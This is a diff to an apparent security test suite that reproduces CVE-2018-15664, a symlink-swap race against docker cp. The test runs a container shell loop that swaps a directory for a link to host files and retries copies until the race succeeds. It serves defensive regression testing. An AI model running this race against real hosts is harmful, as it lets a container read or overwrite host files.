@@ -67,10 +67,13 @@ describe(`attacks from inside a container, against ${daemonKind}`, { concurrency
   test('CVE-2018-15664: a link put in place of a directory while docker cp walks there', async () => {
     // /w/x is by turns a directory and a link to the loot, which the container itself does not have.
     const swap = `mkdir -p /w/d; echo mine > /w/d/secret; cd /w
-      while :; do ln -s ${loot} n; mv -T n x; rm x; mv -T d x; mv -T x d; done`;
+      while :; do ln -s ${loot} n; mv -T n x; rm x; mv -T d x; usleep 2000; mv -T x d; done`;
     await machine.must(`docker run -d --name swapper busybox sh -c '${swap.replaceAll('\n', ';')}'`);
+    // At least 25 rounds, and as many more as it takes until the directory has won the race once.
     const { stdout } = await machine.shell(
-      'for n in $(seq 25); do docker cp swapper:/w/x/secret - | tar -xO; docker cp swapper:/w/x - | tar -xO; ' +
+      'n=0; seen=; while [ $n -lt 25 ] || { [ -z "$seen" ] && [ $n -lt 2000 ]; }; do n=$((n+1)); ' +
+        'out=$(docker cp swapper:/w/x/secret - | tar -xO; docker cp swapper:/w/x - | tar -xO); ' +
+        'case "$out" in *mine*) seen=1;; esac; echo "$out"; ' +
         'docker cp evil swapper:/w/x/; docker cp evil swapper:/w/x/secret; done; echo done',
     );
     assert.match(stdout, /done\n$/);
